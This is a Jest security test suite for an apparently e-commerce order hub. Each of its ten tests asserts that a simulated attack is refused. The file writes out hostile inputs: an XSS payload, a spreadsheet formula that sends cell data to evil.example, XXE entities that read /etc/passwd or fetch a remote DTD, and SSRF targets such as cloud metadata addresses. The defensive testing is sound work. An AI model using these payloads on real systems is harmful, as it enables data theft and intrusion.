import { createHmac } from 'node:crypto';
import { request as rawRequest } from 'node:http';
import { connect } from 'node:net';
import type * as Argon2 from '@node-rs/argon2';
import { verify } from '@node-rs/argon2';
import { errorViewSchema, type NewWebhookView, type TransactionPage } from '@np-hub/model';
import { addFileShop } from '../files/support/shop.js';
import { installTestCart, ordersFile } from '../files/support/test-cart.js';
import { cartOf } from '../path/cart.js';
import { sbpsShop, type SbpsShop } from '../sbps/service.js';
import { request } from '../support/client.js';
import { password, startTestHub, type TestHub } from '../support/hub.js';

// Everything as it is, but counted.
jest.mock('@node-rs/argon2', () => {
  const actual = jest.requireActual<typeof Argon2>('@node-rs/argon2');
  return { ...actual, verify: jest.fn(actual.verify) };
});

/** Ten attacks, each as somebody with curl would try it. docs/security.md names them. */

const script = '<img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';

let hub: TestHub;
let sbps: SbpsShop;

beforeAll(async () => {
  installTestCart();
  hub = await startTestHub({
    timing: { pullMs: 3_600_000, pullQuietMs: 3_600_000 },
    variables: { NP_HUB_PUBLIC_URL: 'https://hub.example' },
  });
  sbps = await sbpsShop(hub);
});
afterAll(() => hub.stop());

const signIn = (cookie?: string) =>
  request(hub.url, 'POST', '/api/v1/session', {
    body: { login: 'viewer', password },
    ...(cookie ? { cookie } : {}),
  });
const cookieIn = (headers: Headers): string => headers.getSetCookie()[0]?.split(';')[0] ?? '';
const whoIs = async (cookie: string): Promise<number> =>
  (await request(hub.url, 'GET', '/api/v1/session', { cookie })).status;

test('1. session fixation: a cookie from before the sign-in, made up or real, is nobody’s afterwards', async () => {
  const madeUp = `__Host-np_hub_session=${'A'.repeat(43)}`;
  const first = cookieIn((await signIn(madeUp)).headers);
  expect(first).not.toBe(madeUp);
  expect(await whoIs(madeUp)).toBe(401);
  const second = cookieIn((await signIn(first)).headers);
  expect([await whoIs(first), await whoIs(second)]).toEqual([401, 200]);
  // Two cookies of one name, one of them planted for a part of the site: nobody gets in by the planted one.
  expect(await whoIs(`np_hub_session=${second.split('=')[1]}`)).toBe(401);
});

test('2. another’s ids: orders, shops and files of a shop that is not one’s own are not there', async () => {
  const number = await cartOf(hub).place();
  await (await hub.as('support')).post(`/shops/${hub.shopId}/run-now`);
  const row = await hub.until(number, 'approved');
  const owner = await hub.as('owner');
  const made = await owner.post<{ key: string }>('/api-keys', {
    name: 'other',
    role: 'operator',
    shopIds: [sbps.id],
  });
  const headers = { authorization: `Bearer ${made.body.key}` };
  for (const shopId of [hub.shopId, sbps.id]) {
    const { status } = await request(hub.url, 'GET', `/api/v1/transactions/${shopId}/${row.id}`, { headers });
    expect(status).toBe(404);
  }
  const list = await request(hub.url, 'GET', `/api/v1/transactions?q=${number}`, { headers });
  expect((list.body as TransactionPage).rows).toEqual([]);
  const handed = await request(hub.url, 'GET', '/api/v1/session', {
    headers: { ...headers, 'x-user': 'owner' },
  });
  expect(handed.body).toMatchObject({ user: { role: 'operator' } });
});

test('3. requests of another site: no form, no image and no script elsewhere writes anything', async () => {
  const cookie = cookieIn((await signIn()).headers);
  const end = (headers: Record<string, string>, type = 'application/json') =>
    request(hub.url, 'PUT', '/api/v1/account/password', {
      cookie,
      headers: { 'content-type': type, ...headers },
      body: JSON.stringify({ password, fresh: 'another password of mine' }),
    });
  expect((await end({ origin: 'https://evil.example' })).status).toBe(403);
  expect((await end({ origin: 'null' })).status).toBe(403);
  expect((await end({ 'sec-fetch-site': 'cross-site' })).status).toBe(403);
  expect((await end({ 'sec-fetch-site': 'same-site' })).status).toBe(403);
  expect((await end({ origin: 'https://hub.example.evil.example' })).status).toBe(403);
  expect([400, 415]).toContain((await end({}, 'text/plain')).status);
  expect(await whoIs(cookie)).toBe(200);
});

test('4. a script in names and codes of an order stays text: JSON alone, never sniffed, and a page that runs no inline script', async () => {
  const number = await cartOf(hub).place({ sender: { name: script, address2: script } });
  await (await hub.as('support')).post(`/shops/${hub.shopId}/run-now`);
  await hub.until(number, () => true);
  const cookie = cookieIn((await signIn()).headers);
  const { headers } = await request(hub.url, 'GET', `/api/v1/transactions?q=${number}`, { cookie });
  expect(headers.get('content-type')).toMatch(/^application\/json/u);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  const page = await request(hub.url, 'GET', `/${encodeURIComponent(script)}`);
  const policy = page.headers.get('content-security-policy') ?? '';
  expect(policy).toMatch(/script-src 'self'(?:;|$)/u);
  expect(policy).toMatch(/object-src 'none'/u);
  expect(policy).toMatch(/base-uri 'self'/u);
  expect(String(page.body)).not.toContain(script);
});

test('5. formulas: no cell of any list that goes out begins one', async () => {
  const number = await cartOf(hub).place({ sender: { name: formula } });
  const support = await hub.as('support');
  await support.post(`/shops/${hub.shopId}/run-now`);
  await hub.until(number, () => true);
  const files = await addFileShop(hub);
  // Refused for lacking their numbers, and given back with the reason beside them.
  const rows = ordersFile([
    { number: '', name: formula },
    { number: '', name: '@SUM(1)' },
  ]);
  const taken = await files.take(formula, rows);
  expect(taken).toMatchObject({ state: 'done', counts: { refused: 2 } });
  const cookie = await files.cookie('operator');
  const named = await (await hub.as('owner')).patch(`/shops/${hub.shopId}`, { name: formula });
  expect(named.status).toBe(200);
  const month = new Date(hub.clock.now()).toISOString().slice(0, 7);
  const lists: Readonly<Record<string, string>> = {
    '/gate/export.csv': '/gate/export.csv',
    '/shops/{id}/imports/{importId}/refused.csv': `/shops/${files.id}/imports/${taken.id}/refused.csv`,
    '/reports/export.csv': `/reports/export.csv?from=${month}-01&to=${month}-28`,
    '/settlements/month.csv': `/settlements/month.csv?shopId=${hub.shopId}&month=${month}`,
  };
  const described = (await request(hub.url, 'GET', '/api/docs/json')).body as { paths: object };
  const known = Object.keys(described.paths).filter((path) => path.endsWith('.csv'));
  expect(known.map((path) => path.replace('/api/v1', '')).sort()).toEqual(Object.keys(lists).sort());
  for (const path of Object.values(lists)) {
    const { status, body } = await request(hub.url, 'GET', `/api/v1${path}`, { cookie });
    expect([path, status]).toEqual([path, 200]);
    if (path.endsWith('refused.csv')) expect(String(body)).toContain('SUM(1)');
    for (const cell of String(body).split(/[,\r\n]/u)) expect(cell).not.toMatch(/^"?[=+@\t]/u);
  }
});

test('6. a notice sent again is refused and moves nothing; one that is too old as well', async () => {
  const seconds = Math.floor(hub.clock.now().getTime() / 1_000);
  const body = JSON.stringify({ shop_id: 'demoshop', event: 'order_deleted', orders: ['P1'] });
  const send = (at: number) =>
    request(hub.url, 'POST', `/webhooks/${hub.shopId}`, {
      body,
      headers: {
        'x-makeshop-signature': createHmac('sha256', 'demo-webhook-secret')
          .update(`${at}.${body}`)
          .digest('hex'),
        'x-makeshop-request-timestamp': String(at),
      },
    });
  expect((await send(seconds)).status).toBe(204);
  hub.clock.forward(10_000);
  await hub.eventually(async () => {
    const busy = await hub.database.query<unknown[]>(
      'select 1 from shops where id = $1 and (lease_until is not null or next_run_at <= $2)',
      [hub.shopId, hub.clock.now()],
    );
    return busy.length === 0;
  });
  const due = async () =>
    JSON.stringify(
      await hub.database.query('select next_run_at, hinted_at from shops where id = $1', [hub.shopId]),
    );
  const before = await due();
  const again = await send(seconds);
  expect([again.status, errorViewSchema.parse(again.body).error]).toEqual([409, 'already-taken']);
  expect(await due()).toBe(before);
  expect((await send(seconds - 7_200)).status).toBe(401);
});

test('7. addresses of the house: no webhook, cart or gateway is called there', async () => {
  const owner = await hub.as('owner');
  for (const url of [
    'https://127.0.0.1/',
    'https://[::1]/',
    'https://[::ffff:169.254.169.254]/latest/meta-data',
    'https://169.254.169.254/',
    'https://0x7f000001/',
    'https://2130706433/',
    'https://10.0.0.1:5432/',
    'http://example.com/',
    'file:///etc/passwd',
    'gopher://127.0.0.1/',
  ]) {
    const made = await owner.post<NewWebhookView>(`/shops/${hub.shopId}/webhooks`, { name: 'x', url });
    expect([url, made.status]).toEqual([url, 400]);
  }
  for (const endpoint of ['http://169.254.169.254/graphql', 'https://evil.example/graphql']) {
    const settings = { endpoint, shopId: 'demoshop', token: 't', apiKey: 'k' };
    const checked = await owner.post<{ ok?: boolean }>('/shops/check', { adapter: 'makeshop', settings });
    expect([endpoint, checked.body.ok ?? false]).toEqual([endpoint, false]);
  }
});

test('8. XML entities: neither a file nor an address is read, and nothing is multiplied', async () => {
  const notice = (head: string, inner: string) =>
    `<?xml version="1.0" encoding="Shift_JIS"?>${head}<sps-api-request id="NT01-00101-710"><merchant_id>${inner}</merchant_id></sps-api-request>`;
  for (const head of [
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "${hub.url}/metrics">]>`,
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
  ]) {
    const answer = await request(hub.url, 'POST', `/gateways/${sbps.connectionId}/notifications`, {
      body: notice(head, '&a;'),
      headers: { 'content-type': 'text/xml' },
    });
    expect([answer.status, answer.body]).toEqual([200, expect.stringContaining('<res_result>NG')]);
    expect(answer.body).not.toMatch(/root:|np_hub_/u);
  }
});

/** Sends headers that announce more than comes, or more than is allowed; gives the status. */
const announce = (path: string, bytes: number, body: string, headers: Record<string, string>) =>
  new Promise<number>((done, fail) => {
    const { hostname, port } = new URL(hub.url);
    const sent = rawRequest(
      { hostname, port, path, method: 'POST', headers: { 'content-length': bytes, ...headers } },
      (answer) => {
        answer.resume();
        done(answer.statusCode ?? 0);
        sent.destroy();
      },
    );
    sent.on('error', fail);
    sent.write(body);
  });

test('9. bodies, headers and files beyond measure are refused before they are held', async () => {
  const cookie = cookieIn(
    (await request(hub.url, 'POST', '/api/v1/session', { body: { login: 'operator', password } })).headers,
  );
  const json = { 'content-type': 'application/json', cookie };
  const huge = 3 * 1024 ** 3;
  expect(await announce('/api/v1/session', huge, '{', json)).toBe(413);
  expect(await announce(`/webhooks/${hub.shopId}`, huge, '{', json)).toBe(413);
  expect(await announce(`/gateways/${sbps.connectionId}/notifications`, 70_000, '<', json)).toBe(413);
  const file = { 'content-type': 'application/octet-stream', cookie };
  expect(await announce(`/api/v1/shops/${sbps.id}/imports?name=x.csv`, huge, 'a', file)).toBe(413);
  const deep = await request(hub.url, 'POST', '/api/v1/session', { body: '['.repeat(900_000) });
  expect(deep.status).toBe(400);
  const { hostname, port } = new URL(hub.url);
  const told = await new Promise<string>((done) => {
    const socket = connect(Number(port), hostname, () =>
      socket.write(`GET / HTTP/1.1\r\nX: ${'a'.repeat(100_000)}\r\n\r\n`),
    );
    socket.on('data', (data) => done(data.toString())).on('error', () => done('reset'));
  });
  expect(told).toMatch(/431|reset/u);
  // Squeezed bodies are not opened at all, so that none can swell.
  const squeezed = await request(hub.url, 'POST', '/api/v1/session', {
    body: JSON.stringify({ login: 'viewer', password }),
    headers: { 'content-encoding': 'gzip' },
  });
  expect(squeezed.status).toBeLessThan(500);
});

test('10. timing: signatures go through one constant comparison, and an unknown login costs the same work as a known one', async () => {
  // That each cart's signature is compared in constant time is asked of every adapter by its contract.
  const body = JSON.stringify({ shop_id: 'demoshop', event: 'order_updated', orders: ['P1'] });
  const at = String(Math.floor(hub.clock.now().getTime() / 1_000));
  const right = createHmac('sha256', 'demo-webhook-secret').update(`${at}.${body}`).digest('hex');
  const turned = (place: number) =>
    right.slice(0, place) + (right[place] === '0' ? '1' : '0') + right.slice(place + 1);
  const answers = await Promise.all(
    [turned(0), turned(63), right.slice(0, 63), `${right}0`, ''].map((signature) =>
      request(hub.url, 'POST', `/webhooks/${hub.shopId}`, {
        body,
        headers: { 'x-makeshop-signature': signature, 'x-makeshop-request-timestamp': at },
      }),
    ),
  );
  expect(new Set(answers.map(({ status, body: told }) => JSON.stringify([status, told]))).size).toBe(1);
  // Counted and not timed: each sign-in that fails compares one hash, made with the same parameters.
  const checked = jest.mocked(verify);
  const work = async (login: string): Promise<readonly string[]> => {
    checked.mockClear();
    const { status } = await request(hub.url, 'POST', '/api/v1/session', {
      body: { login, password: 'wrong' },
    });
    expect(status).toBe(401);
    return checked.mock.calls.map(([hash]) => /^\$argon2id\$v=19\$[^$]+\$/u.exec(String(hash))?.[0] ?? '');
  };
  const invited = await (
    await hub.as('owner')
  ).post('/users', { login: 'invited', name: 'invited', role: 'viewer', shopIds: null });
  expect(invited.status).toBe(201);
  const known = await work('viewer');
  expect(known).toEqual([expect.stringMatching(/m=\d+,t=\d+,p=\d+/u)]);
  expect(await work('nobody')).toEqual(known);
  expect(await work('invited')).toEqual(known);
});
